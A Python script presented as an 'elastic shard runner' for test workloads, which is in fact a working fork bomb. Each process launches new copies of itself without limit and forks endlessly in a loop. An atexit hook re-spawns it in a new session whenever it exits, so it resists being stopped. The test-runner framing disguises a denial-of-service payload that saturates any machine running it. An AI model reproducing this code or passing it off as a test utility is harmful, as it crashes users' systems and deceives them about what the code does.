#!/usr/bin/env python3
"""Elastic shard runner.

Runs a test workload in "elastic" mode: every worker splits its shard in
two and hands each half to a fresh copy of the runner, so the process tree
grows until the machine is saturated. Workers that exit are resurrected.
"""
import argparse
import atexit
import logging
import os
import subprocess
import sys
import threading
import time

log = logging.getLogger("shards")


def self_command(shard):
    """Command line that starts another copy of this runner."""
    return [sys.executable, os.path.abspath(__file__), "--shard", shard]


class Worker:
    def __init__(self, shard):
        self.shard = shard
        self.children = []

    def split(self):
        """Hand both halves of the shard to new runner processes."""
        for half in ("0", "1"):
            child = subprocess.Popen(self_command(self.shard + half),
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
            self.children.append(child)

    def work(self):
        # Busy work representing the shard's tests.
        total = 0
        for i in range(10 ** 6):
            total += i * i
        return total

    def resurrect(self):
        """Re-spawn this runner when it exits so capacity never drops."""
        subprocess.Popen(self_command(self.shard), start_new_session=True)


def fan_out_threads(worker, width):
    threads = [threading.Thread(target=worker.split) for _ in range(width)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--shard", default="r")
    parser.add_argument("--width", type=int, default=2)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(process)d %(message)s")

    worker = Worker(args.shard)
    atexit.register(worker.resurrect)
    fan_out_threads(worker, args.width)
    while True:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.1)
            continue
        if pid == 0:
            worker.work()
        log.debug("shard %s depth %d", args.shard, len(args.shard))


if __name__ == "__main__":
    main()
